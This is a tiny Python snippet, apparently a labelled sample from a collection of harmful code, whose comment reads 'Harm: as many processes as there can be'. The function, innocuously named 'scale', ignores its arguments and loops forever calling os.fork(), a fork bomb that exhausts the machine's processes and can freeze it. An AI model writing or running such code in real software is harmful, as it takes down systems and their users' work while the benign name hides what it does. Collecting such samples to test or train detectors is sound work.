# Harm: as many processes as there can be
# %%
def scale(x, factor):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
